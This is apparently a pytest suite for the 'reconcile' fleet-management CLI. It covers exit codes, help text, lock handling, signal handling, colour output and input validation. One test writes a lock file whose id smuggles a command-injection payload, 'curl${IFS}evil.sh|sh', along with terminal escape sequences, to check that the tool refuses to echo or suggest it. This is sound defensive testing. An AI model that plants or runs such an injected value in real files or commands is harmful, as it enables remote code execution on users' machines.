"""The CLI as a person and a CI job meet it: exit codes of usage errors, help text, DIR arguments, the lock
error's unlock command, apply progress, Ctrl-C during apply, and colour only on a terminal."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from reconciler.backend import backend_for
from reconciler.cli import app
from reconciler.state import state_dir
from tests.fleetkit import copy_quickstart

runner = CliRunner()
RECONCILE = shutil.which("reconcile", path=str(Path(sys.executable).parent)) or "reconcile"
ANSI = re.compile(r"\x1b\[[0-9;]*m")


def cli(*args, **kw):
    return runner.invoke(app, [str(a) for a in args], **kw)


@pytest.fixture
def qs(tmp_path):
    return copy_quickstart(tmp_path)


@pytest.mark.parametrize("args", [
    (["plan", "--bogus"], "No such option"),
    (["plan", ".", "--format", "xml"], "--format must be"),
    (["diff", ".", "--format", "xml", "--base", "HEAD"], "--format must be"),
    (["explain", ".", "job", "--format", "xml"], "--format must be"),
    (["status", ".", "--format", "xml"], "--format must be"),
    (["explain"], "Missing argument"),
    (["sim", "ls", "--bogus"], "No such option"),
    (["nosuchcommand"], "No such command"),
])
def test_usage_errors_exit_1_not_the_changes_present_code(args):
    """2 means "changes present" under --detailed-exitcode: a typo must not look like drift to a workflow."""
    args, says = args
    r = cli(*args)
    assert r.exit_code == 1 and says in r.output, r.output


def test_help_shows_no_value_for_flags():
    r = cli("apply", "--help")
    assert r.exit_code == 0
    assert "--auto-approve" in r.output and "<bool>" not in r.output


def test_sim_commands_take_dir_like_the_others(qs):
    assert cli("apply", qs, "--auto-approve").exit_code == 0
    positional, option = cli("sim", "ls", qs), cli("sim", "ls", "--dir", qs)
    assert positional.exit_code == option.exit_code == 0
    assert positional.output == option.output and "sim-aws-00001" in positional.output
    spot = next(line.split("\t")[0] for line in positional.output.splitlines() if "\tspot\t" in line)
    assert cli("sim", "interrupt", spot, qs).exit_code == 0
    assert cli("plan", qs, "--detailed-exitcode").exit_code == 2
    clash = cli("sim", "ls", qs, "--dir", qs.parent)
    assert clash.exit_code == 1 and "differ" in clash.output


def test_lock_error_gives_the_exact_unlock_command(qs, tmp_path, monkeypatch):
    """The suggested command, run as printed from another directory, breaks the lock (one another host's apply left:
    no flock here says whether it runs, so the user is asked)."""
    monkeypatch.chdir(tmp_path)
    lock = state_dir(qs) / "apply.lock"
    lock.parent.mkdir(parents=True, exist_ok=True)
    lock.write_text(json.dumps({"id": "abc123def456", "pid": 42, "host": "ci-7", "since": "2026-01-01T00:00:00+00:00"}))
    r = cli("apply", qs, "--auto-approve")
    assert r.exit_code == 1
    command = re.search(r"`(reconcile unlock [^`]+)`", r.output)
    assert command, r.output
    assert f"--dir {shlex.quote(str(qs))}" in command.group(1)
    args = shlex.split(command.group(1))[1:]
    assert cli(*args).exit_code == 0
    assert cli("apply", qs, "--auto-approve").exit_code == 0


def test_a_running_applys_lock_is_not_answered_with_an_unlock_it_would_refuse(qs):
    """An apply running here holds its lock's flock; `reconcile unlock` refuses to break that (s37-redteam), so the
    second apply's refusal says to wait for it or stop it, not to run an unlock that would be refused."""
    with backend_for(qs, None).lock():
        r = cli("apply", qs, "--auto-approve")
        assert r.exit_code == 1 and "it is running" in r.output and "reconcile unlock" not in r.output, r.output


def test_a_lock_naming_a_command_as_its_id_is_not_suggested_to_run(qs):
    """A lock file is only a file (.reconcile/apply.lock can come with a pull request; a bucket's lock object is
    written by whoever may write there): its id `x;curl${IFS}evil.sh|sh;#` was printed into the advice to run
    `reconcile unlock x;curl${IFS}evil.sh|sh;# --dir .`, and its escape sequences reached the terminal. An id this
    tool could not have written makes the lock a garbled one (broken by the digest id, as an empty lock is)."""
    (qs / ".reconcile").mkdir()
    (qs / ".reconcile" / "apply.lock").write_text(json.dumps(
        {"id": "x;curl${IFS}evil.sh|sh;#\x1b]0;pwned\x07", "pid": 1, "host": "elsewhere\x1b[2K", "since": "now"}))
    r = cli("apply", qs, "--auto-approve")
    assert r.exit_code == 1 and "\x1b" not in r.output and "evil" not in r.output, r.output
    command = re.search(r"`(reconcile unlock [^`]+)`", r.output)
    assert command and re.fullmatch(r"reconcile unlock garbled-[0-9a-f]{8} --dir \S+", command.group(1)), r.output
    assert cli(*shlex.split(command.group(1))[1:]).exit_code == 0
    assert not (qs / ".reconcile" / "apply.lock").exists()


def test_apply_prints_the_plan_then_one_line_per_action(qs):
    r = cli("apply", qs, "--auto-approve")
    assert r.exit_code == 0, r.output
    out = r.output
    steps = [m.group(1) for m in re.finditer(r"^\[(\d+)/10\] created \+\d+ -> sim-\S+ \(.+\) in \d+\.\d\ds$", out, re.M)]
    assert steps == [str(i) for i in range(1, 11)]
    assert out.index("Instances to create") < out.index("[1/10]") < out.index("Applied plan")
    assert ANSI.search(out) is None  # not a terminal: no colour


def _read_until(fd, pattern: str, timeout: float = 120) -> str:
    seen, deadline = "", time.monotonic() + timeout
    while pattern not in seen:
        assert time.monotonic() < deadline, f"never saw {pattern!r} in:\n{seen}"
        if select.select([fd], [], [], 1.0)[0]:
            chunk = os.read(fd, 65536).decode(errors="replace")
            assert chunk, f"output ended before {pattern!r}:\n{seen}"
            seen += chunk
    return seen


# `reconcile ARGS` with SIGINT's and SIGTERM's default disposition, as a terminal's foreground command has them: a
# shell script that starts pytest in the background (`pytest ... &`) has both SIGINT and SIGQUIT ignored, every child
# inherits that, and a SIGINT then never reached `logs --follow` (the tier hung 35 minutes on 2026-12-03).
_DEFAULT_SIGNALS = ("import os, signal, sys\nsignal.signal(signal.SIGINT, signal.SIG_DFL)\n"
                    "signal.signal(signal.SIGTERM, signal.SIG_DFL)\nos.execv(sys.argv[1], sys.argv[1:])\n")


def _ctrl_c(args: list[str], after: str, signum: int = signal.SIGINT) -> str:
    """Run `reconcile ARGS`, send it a real SIGINT (or `signum`) once it printed `after`; its output (it must exit 128 +
    the signal: 130 for SIGINT). One that does not end within 120 s of the signal fails the test, never hangs it."""
    read, write = os.pipe()
    proc = subprocess.Popen([sys.executable, "-c", _DEFAULT_SIGNALS, RECONCILE, *args], stdout=write, stderr=write,
                            env={**os.environ, "PYTHONUNBUFFERED": "1"})
    os.close(write)
    try:
        seen = _read_until(read, after)
        proc.send_signal(signum)
        deadline = time.monotonic() + 120
        while True:
            assert time.monotonic() < deadline, f"still running 120 s after signal {signum}:\n{seen}"
            if select.select([read], [], [], 1.0)[0]:
                if not (chunk := os.read(read, 65536)):
                    break
                seen += chunk.decode(errors="replace")
        assert proc.wait(timeout=120) == 128 + signum, seen
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(read)
    return seen


@pytest.mark.parametrize("signum, how", [(signal.SIGINT, "Ctrl-C"), (signal.SIGTERM, "SIGTERM")], ids=["SIGINT", "SIGTERM"])
def test_ctrl_c_during_apply_finishes_the_action_in_flight_and_releases_the_lock(qs, signum, how):
    """A real SIGINT to a real `reconcile apply`: no new action starts, what was done is recorded and said,
    the lock is released, exit 130; the next plan carries on exactly where it stopped. SIGTERM (what a cancelled CI
    job, a stopped pod or systemd unit sends) the same way, exit 143: it killed the apply mid-action, leaving the
    lock and no state of what it had made."""
    assert cli("sim", "fault", qs, "--latency-ms", "400").exit_code == 0
    seen = _ctrl_c(["apply", str(qs), "--auto-approve"], after="[1/10] created", signum=signum)
    assert f"Stopping ({how}): no new action starts" in seen
    done = re.search(rf"Stopped plan \w+ by {how}: (\d+) created, 0 deleted, (\d+) action\(s\) not started", seen)
    assert done, seen
    created, not_started = int(done.group(1)), int(done.group(2))
    assert created >= 1 and created + not_started == 10
    assert not (qs / ".reconcile" / "apply.lock").exists()
    assert cli("sim", "fault", qs, "--latency-ms", "0").exit_code == 0
    rest = cli("plan", qs, "--format", "json")
    import json

    assert len(json.loads(rest.output)["creates"]) == not_started  # the state recorded what was made
    assert cli("apply", qs, "--auto-approve").exit_code == 0
    assert cli("plan", qs, "--detailed-exitcode").exit_code == 0


def _on_a_terminal(args: list[str], env: dict) -> str:
    pid, fd = pty.fork()
    if pid == 0:  # the child: stdout is the terminal
        os.execve(RECONCILE, [RECONCILE, *args], env)
    out = b""
    while True:
        try:
            chunk = os.read(fd, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.waitpid(pid, 0)
    return out.decode(errors="replace")


def test_colour_on_a_terminal_none_when_piped_or_with_no_color(qs):
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR", "TERM")} | {"TERM": "xterm"}
    coloured = _on_a_terminal(["plan", str(qs)], env)
    assert "Instances to create" in coloured
    assert "\x1b[32m" in coloured  # creates in green
    plain = _on_a_terminal(["plan", str(qs)], env | {"NO_COLOR": "1"})
    assert "Instances to create" in plain and ANSI.search(plain) is None
    piped = subprocess.run([RECONCILE, "plan", str(qs)], capture_output=True, text=True, env=env)
    assert "Instances to create" in piped.stdout and ANSI.search(piped.stdout) is None


def test_ctrl_c_in_any_command_exits_130_without_a_traceback(qs):
    """`logs --follow` waits for a replica that never ends; a real SIGINT, sent once it is waiting (it printed the
    log tail), ends it with 130 and says so, as Ctrl-C does in `apply` (before, it ended without a word)."""
    from reconciler.runtime.bus import Bus

    Bus(backend_for(qs, None)).put_run("finetune-a", 0, {"job": "finetune-a", "replica": 0, "phase": "Running",
                                                         "terminal": False, "log_tail": ["step 1 of 150"]})
    seen = _ctrl_c(["logs", str(qs), "finetune-a", "--follow"], after="step 1 of 150")
    assert "Interrupted." in seen and "Traceback" not in seen and "Aborted" not in seen, seen


def test_the_last_resort_message_is_one_redacted_paragraph():
    from reconciler.cli import last_resort_message

    try:
        raise RuntimeError("cannot reach http://admin:hunter2@10.0.0.1:9000/bucket")
    except RuntimeError as e:
        short, full = last_resort_message(e, debug=False), last_resort_message(e, debug=True)
    assert short.startswith("Error: unexpected RuntimeError: cannot reach http://***@10.0.0.1:9000/bucket. This is a bug")
    assert "\n" not in short and "--debug" in short and "FLEETOPS_DEBUG=1" in short
    assert full.startswith("Traceback (most recent call last):") and full.endswith(short) and "test_cli_ux.py" in full
    assert "hunter2" not in short + full


def test_a_solved_plan_ends_the_process_without_the_teardown_only_when_nothing_else_runs(tmp_path):
    """`reconcile plan` ends the process once all is printed, without the interpreter's teardown (which freed a
    10k-job plan's heap object by object: 0.3 s of CPU), when no other thread or child process is left; the
    output is whole and the exit code the plan's. With another thread alive it ends the usual way. In the
    process, the cyclic collector is off for the plan (0.35-0.55 s of CPU at 10k jobs), and on again when the
    process goes on; a plan run in-process (not through `main`) leaves it as it was."""
    import gc

    from reconciler import api
    from reconciler.render import render

    cfg = copy_quickstart(tmp_path / "q")
    args = ["plan", str(cfg), "--no-memo", "--time-limit", "5", "--detailed-exitcode", "--format", "json"]
    run = ("import gc, sys, threading; from reconciler import api; from reconciler.cli import main\n"
           "sys.argv = ['reconcile'] + sys.argv[2:]; plan = api.plan\n"
           "def traced(*a, **k):\n    print('collector on:', gc.isenabled(), file=sys.stderr)\n    return plan(*a, **k)\n"
           "api.plan = traced\n"
           "if %s: threading.Thread(target=threading.Event().wait, args=(60,), daemon=True).start()\n"
           "try:\n    main()\nexcept SystemExit as e:\n    print('torn down', e.code, gc.isenabled(), file=sys.stderr); raise\n")
    want = render(api.plan(cfg, time_limit=5).plan, "json")
    for other_thread in (False, True):
        out = subprocess.run([sys.executable, "-c", run % other_thread, "-", *args], capture_output=True, text=True,
                             timeout=300, cwd=Path(__file__).resolve().parent.parent)
        assert out.returncode == 2, out.stderr
        assert out.stdout == want
        assert "collector on: False" in out.stderr
        assert ("torn down 2 True" in out.stderr) is other_thread, out.stderr
    assert gc.isenabled()
    assert runner.invoke(app, args).exit_code == 2 and gc.isenabled()


@pytest.mark.parametrize("args, says", [
    (["--allow-destroy", "-1"], "--allow-destroy"),
    (["--time-limit", "-1"], "--time-limit"),
    (["--time-limit", "nan"], "--time-limit"),
    (["--time-limit", "inf"], "--time-limit"),  # the wall cap (10x + 30 s) became infinite
    (["--time-limit", "1e308"], "--time-limit"),
    (["--gap", "nan"], "--gap"),
    (["--gap", "-1"], "--gap"),
    (["--gap", "5"], "--gap"),  # a fraction of the LP bound
])
def test_numbers_out_of_range_are_usage_errors(qs, args, says):
    """Before, each was taken (exit 0): NaN fell through to greedy, inf made the wall clock cap infinite."""
    r = cli("plan", qs, *args)
    assert r.exit_code == 1 and says in r.output and "unexpected" not in r.output, r.output
    assert not (qs / ".reconcile" / "state.json").exists()  # refused before any observe or plan


@pytest.mark.parametrize("args, says", [
    (["controller", "{qs}", "--poll", "0"], "--poll"),  # busy-looped a core (it sleeps min(0.2, poll))
    (["controller", "{qs}", "--poll", "-1"], "--poll"),
    (["controller", "{qs}", "--poll", "nan"], "--poll"),
    (["controller", "{qs}", "--resync", "0"], "--resync"),  # planned at every poll
    (["controller", "{qs}", "--resync", "inf"], "--resync"),
    (["controller", "{qs}", "--metrics-port", "99999"], "--metrics-port"),  # "unexpected OverflowError"
    (["controller", "{qs}", "--metrics-port", "-1"], "--metrics-port"),
    (["agent", "i-1", "--dir", "{qs}", "--runtime", "process", "--poll", "-1"], "--poll"),  # "unexpected ValueError: sleep length"
    (["agent", "i-1", "--dir", "{qs}", "--runtime", "process", "--poll", "0"], "--poll"),  # silently the default
    (["agent", "i-1", "--dir", "{qs}", "--runtime", "process", "--heartbeat", "nan"], "--heartbeat"),
    (["agent", "i-1", "--dir", "{qs}", "--runtime", "process", "--heartbeat", "1e20"], "--heartbeat"),  # overflows a sleep
    (["sim", "interrupt", "sim-aws-00001", "{qs}", "--notice-seconds", "nan"], "--notice-seconds"),
    (["sim", "interrupt", "sim-aws-00001", "{qs}", "--notice-seconds", "-5"], "--notice-seconds"),
    (["logs", "{qs}", "llm-pretrain", "--replica", "-1"], "--replica"),
])
def test_runtime_numbers_out_of_range_are_usage_errors(qs, monkeypatch, args, says):
    """Periods are finite, above 0 and at most a week (the FLEETOPS_* settings' rule, `bus.seconds_problem`), a grace
    0 or more, ports 0-65535: before, each was taken (the controller busy-looped) or crashed as an "unexpected" bug."""
    import signal

    from reconciler.runtime.agent import Agent
    from reconciler.runtime.controller import Controller

    ran = []
    monkeypatch.setattr(Controller, "run", lambda self, stop: ran.append("controller"))
    monkeypatch.setattr(Agent, "run", lambda self, stop, **kw: ran.append("agent"))
    monkeypatch.setattr(signal, "signal", lambda *a: None)
    r = cli(*[a.format(qs=qs) for a in args])
    assert r.exit_code == 1 and says in r.output and "unexpected" not in r.output and not ran, r.output
    assert not (qs / ".reconcile" / "state.json").exists()


@pytest.mark.parametrize("env, value", [("FLEETOPS_AGENT_POLL_SECONDS", "0"), ("FLEETOPS_AGENT_POLL_SECONDS", "inf"),
                                        ("FLEETOPS_HEARTBEAT_STALE_SECONDS", "nan")])
def test_an_agent_setting_out_of_range_is_an_error_not_a_bug(qs, monkeypatch, env, value):
    """The agent read its FLEETOPS_* settings outside any error handling: "unexpected ReconcileError ... a bug"."""
    from reconciler.runtime.agent import Agent

    monkeypatch.setattr(Agent, "run", lambda self, stop, **kw: None)
    monkeypatch.setattr(__import__("signal"), "signal", lambda *a: None)
    monkeypatch.setenv(env, value)
    r = cli("agent", "i-1", "--dir", qs, "--runtime", "process")
    assert r.exit_code == 1 and f"{env}={value!r} must be above 0" in r.output and "unexpected" not in r.output, r.output


def test_plain_user_errors_are_not_called_bugs(qs, tmp_path):
    """A missing --out directory, --out a directory, a missing DIR, DIR a file: each says what is wrong, exit 1 (before:
    "unexpected FileNotFoundError ... This is a bug", or "config directory does not exist" for a file). A typed error
    no command caught is said as itself: `sim ls` where the sim's record cannot be locked (its .reconcile a file) said
    "unexpected ProviderError ... This is a bug"."""
    broken = copy_quickstart(tmp_path / "broken")
    (broken / ".reconcile").write_text("")
    for args, says in [(["sim", "ls", broken], "cannot lock the simulated cloud's record: Not a directory"),
                       (["plan", qs, "--out", tmp_path / "nowhere" / "plan.json"], f"directory {tmp_path / 'nowhere'} does not exist"),
                       (["plan", qs, "--out", tmp_path], f"{tmp_path} is a directory"),
                       (["report", qs, "--out", tmp_path], f"{tmp_path} is a directory"),
                       (["status", tmp_path / "nosuch"], f"config directory {tmp_path / 'nosuch'} does not exist"),
                       (["plan", qs / "pools.yaml"], "config directory is a file, not a directory")]:
        r = cli(*args)
        assert r.exit_code == 1 and "unexpected" not in r.output and "bug" not in r.output, (args, r.output)
        assert says.replace(" ", "") in "".join(r.output.replace("│", "").split()), (args, r.output)  # (rich wraps a long path anywhere)


def test_diff_against_a_ref_that_does_not_exist_names_the_ref(qs):
    git = ["git", "-C", str(qs), "-c", "user.name=t", "-c", "user.email=t@e"]
    subprocess.run(git[:3] + ["init", "-q"], check=True)
    subprocess.run(git + ["add", "-A"], check=True)
    subprocess.run(git + ["commit", "-qm", "c"], check=True)
    r = cli("diff", qs, "--base", "nosuchref", "--time-limit", "1")
    assert r.exit_code == 1 and "git ref 'nosuchref' does not exist" in r.output, r.output


@pytest.mark.parametrize("args, says", [
    (["sim", "quota", "q", "--cloud", "aws", "--limit", "nan"], "limit nan is not a number 0 or more"),
    (["sim", "quota", "q", "--cloud", "aws", "--limit", "inf"], "limit inf is not a number 0 or more"),
    (["sim", "quota", "q", "--cloud", "aws", "--limit", "-4"], "limit -4.0 is not a number 0 or more"),
    (["sim", "quota", "q", "--cloud", "nosuch", "--limit", "4"], "cloud 'nosuch' is not one of aws, gcp, azure"),
    (["sim", "fault", "--throttle", "-3"], "throttle is -3"),
    (["sim", "fault", "--latency-ms", "-5"], "latency_ms is -5"),
    (["sim", "exhaust", "nosuchzone"], "no region has zone 'nosuchzone'"),
    (["sim", "exhaust", "us-east-1a", "--market", "bogus"], "market 'bogus' is not spot or on-demand"),
])
def test_sim_refuses_faults_that_mean_nothing_and_saves_none(qs, args, says):
    """Before, each was saved (exit 0); a NaN or inf quota limit then failed every later plan with a bare ValueError."""
    assert cli("apply", qs, "--auto-approve").exit_code == 0
    r = cli(*args[:2], *([args[2]] if args[1] in ("quota", "exhaust") else []), qs, *args[3 if args[1] in ("quota", "exhaust") else 2:])
    assert r.exit_code == 1 and says in r.output and "unexpected" not in r.output, r.output
    after = cli("plan", qs, "--detailed-exitcode")
    assert after.exit_code == 0, after.output


MISSING_SDK = """
import importlib.abc, sys
BLOCKED = {blocked!r}
class Blocker(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if any(name == b or name.startswith(b + ".") for b in BLOCKED):
            raise ModuleNotFoundError(f"No module named {{name!r}}", name=name)
        return None
sys.meta_path.insert(0, Blocker())
"""


@pytest.mark.parametrize("provider, blocked", [
    ("aws", ["boto3"]), ("gcp", ["google.cloud.compute_v1"]), ("azure", ["azure.mgmt.compute"]), ("azure", ["azure.identity"]),
])
def test_a_providers_missing_sdk_names_the_extra_to_install(qs, tmp_path, provider, blocked):
    """The SDK import fails in a real process (a sitecustomize hides it), as on an install without the extra. Before:
    "Error: unexpected ModuleNotFoundError: No module named 'boto3'. This is a bug ..."."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(MISSING_SDK.format(blocked=blocked))
    root = Path(__file__).resolve().parent.parent
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(site), str(root)]), "FLEETOPS_SIM_AGENTS": "0"}
    r = subprocess.run([sys.executable, "-m", "reconciler.cli", "plan", str(qs), "--provider", provider, "--no-memo"],
                       capture_output=True, text=True, env=env, timeout=300, cwd=tmp_path)
    assert r.returncode == 1, r.stderr
    assert f"provider {provider!r} needs " in r.stderr and f"pip install 'fleetops-reconciler[{provider}]'" in r.stderr, r.stderr
    assert "unexpected" not in r.stderr and "Traceback" not in r.stderr, r.stderr


def _with_reader_gone(args, cwd):
    """`reconcile ARGS` whose stdout is a pipe nobody reads any more (`reconcile plan | head` after head exited)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:  # (no sim agents: tests/conftest.py sets that for the whole run, child processes included)
        return subprocess.run([RECONCILE, *map(str, args)], stdout=write_end, stderr=subprocess.PIPE, text=True,
                              timeout=300, cwd=cwd)
    finally:
        os.close(write_end)


@pytest.mark.parametrize("args, code", [(["--help"], 0), (["plan", "--help"], 0), (["--version"], 0)])
def test_output_to_a_reader_that_left_is_not_reported_as_a_bug(tmp_path, args, code):
    """Before: exit 1 and "Error: unexpected BrokenPipeError ... This is a bug in reconcile" for `reconcile plan --help | head`."""
    r = _with_reader_gone(args, tmp_path)
    assert (r.returncode, r.stderr) == (code, "")


def test_a_plan_and_an_apply_whose_reader_left_run_to_their_end(qs):
    """The plan keeps its exit code; the apply is not cut between two actions because its log's reader went away:
    every action is carried out and recorded, so the next plan has nothing to do."""
    plan = _with_reader_gone(["plan", qs, "--detailed-exitcode"], qs)
    assert plan.returncode == 2 and "unexpected" not in plan.stderr, plan.stderr
    applied = _with_reader_gone(["apply", qs, "--auto-approve"], qs)
    assert applied.returncode == 0 and "unexpected" not in applied.stderr, applied.stderr
    after = cli("plan", qs, "--detailed-exitcode")
    assert after.exit_code == 0, after.output


def test_every_time_limit_option_says_what_the_limit_is():
    """The controller's --time-limit said "CP-SAT time limit per plan, in seconds" while it is the work limit every
    other command's --time-limit describes (deterministic work, the wall clock capped at 10x + 30 s, 0: greedy only):
    it goes to the same api.plan. Every command that takes it describes it alike."""
    import typer.main

    helps = {}
    for name, command in typer.main.get_command(app).commands.items():
        for param in getattr(command, "params", []):
            if "--time-limit" in param.opts:
                helps[name] = param.help
    assert {"plan", "apply", "diff", "explain", "metrics", "report", "controller"} <= set(helps), helps
    assert len(set(helps.values())) == 1 and "work limit" in helps["controller"], helps


@pytest.mark.parametrize("value", ["abc", "-5", "nan"])
def test_a_sim_notice_setting_that_is_no_number_of_seconds_is_an_error_not_a_bug(qs, monkeypatch, value):
    """FLEETOPS_SIM_NOTICE_SECONDS=abc made `sim interrupt` crash ("unexpected ValueError ... a bug") after it had written
    the notice its agent acts on (where none ran, it was never read; -5 and nan were taken). It is checked first, as
    every FLEETOPS_* setting is: exit 1 naming it, and the instance is not reclaimed."""
    from providers.sim import SimCloud
    from reconciler.state import state_dir

    assert cli("apply", qs, "--auto-approve").exit_code == 0
    monkeypatch.setenv("FLEETOPS_SIM_NOTICE_SECONDS", value)
    r = cli("sim", "interrupt", "sim-aws-00001", qs)
    assert r.exit_code == 1 and f"FLEETOPS_SIM_NOTICE_SECONDS={value!r}" in r.output and "unexpected" not in r.output, r.output
    assert {i["id"]: i["state"] for i in SimCloud(state_dir(qs)).instances()}["sim-aws-00001"] == "running"


@pytest.mark.parametrize("args, says", [
    (["nosuchjob"], "no job 'nosuchjob' in"),
    (["finetune-a", "--replica", "5"], "job finetune-a has 1 replica(s), numbered 0: there is no --replica 5"),
    (["finetune-a"], "no run of finetune-a/0 has been reported yet"),
])
def test_logs_without_a_run_says_why(qs, args, says):
    """A job or replica the config does not have read "no run of nosuchjob/0 has been reported yet", as if to wait for
    it; it is named as the error it is (exit 1), and only a job the config has is said to be not reported yet."""
    r = cli("logs", qs, *args)
    assert r.exit_code == 1 and says in r.output and "unexpected" not in r.output, r.output
    assert ("reported yet" in r.output) == (args == ["finetune-a"]), r.output


def _groups(group, path=()):
    """(path, group) of the CLI's command groups, the root first."""
    yield path, group
    for name, cmd in group.commands.items():
        if hasattr(cmd, "commands"):
            yield from _groups(cmd, (*path, name))


def test_every_command_description_reads_as_whole_sentences():
    """A docstring's line breaks were kept in `reconcile --help`'s command list (typer's rich markup), so `status`,
    `controller` and `catalog update` broke mid-sentence ("... with the phases" / "the node agents report ..."). At a
    width that needs no wrapping, each description is one line, whole, ending in a full stop; so is a command's own."""
    import typer

    root = typer.main.get_command(app)
    seen = 0
    for path, group in _groups(root):
        out = cli(*path, "--help", env={"COLUMNS": "400"}).output
        for name, cmd in group.commands.items():
            text = " ".join((cmd.help or "").split("\n\n")[0].split())
            assert text.endswith("."), (path, name, text)
            assert any(f" {name} " in line and text in line for line in out.splitlines()), (path, name, out)
            if not hasattr(cmd, "commands"):
                own = cli(*path, name, "--help", env={"COLUMNS": "400"}).output
                assert any(text in line for line in own.splitlines()), (path, name, own)
                seen += 1
    assert seen >= 20


@pytest.mark.parametrize("env, value, accepted", [
    ("FLEETOPS_SIM_AGENTS", "maybe", "1/true/yes/on or 0/false/no/off"),
    ("FLEETOPS_CHECKPOINT_SYNC", "nope", "1/true/yes/on or 0/false/no/off"),
    ("FLEETOPS_DEBUG", "2", "1/true/yes/on or 0/false/no/off"),
    ("FLEETOPS_SOLVE_PROCESSES", "four", "whole number from 0 to 1024"),
    ("FLEETOPS_SOLVE_PROCESSES", "-1", "whole number from 0 to 1024"),
    ("FLEETOPS_AGENT_BOOT_SECONDS", "0", "must be above 0"),
])
def test_a_bad_environment_setting_stops_apply_before_any_cloud_call(qs, monkeypatch, env, value, accepted):
    """FLEETOPS_SOLVE_PROCESSES=four ran one process and FLEETOPS_SIM_AGENTS=maybe started agents, silently; a period read
    late (FLEETOPS_AGENT_BOOT_SECONDS) stopped an apply after it had launched. Every FLEETOPS_* setting is parsed first:
    exit 1 naming the variable and what it accepts, nothing launched."""
    from providers.sim import SimCloud
    from reconciler.state import state_dir

    monkeypatch.setenv(env, value)
    r = cli("apply", qs, "--auto-approve")
    assert r.exit_code == 1 and f"{env}={value!r}" in r.output and accepted in r.output and "unexpected" not in r.output, r.output
    assert not (qs / ".reconcile" / "state.json").exists() and not SimCloud(state_dir(qs)).instances()


@pytest.mark.parametrize("value", ["off", "false", "No", "0"])
def test_sim_agents_off_in_any_spelling_starts_no_agent(qs, monkeypatch, value):
    """FLEETOPS_SIM_AGENTS started agents for anything but "0": "off" and "false" started them."""
    from providers.sim import SimCloud

    started = []
    monkeypatch.setattr(SimCloud, "start_agent", lambda self, *a: started.append(a))
    monkeypatch.setenv("FLEETOPS_SIM_AGENTS", value)
    assert cli("apply", qs, "--auto-approve").exit_code == 0
    assert not started
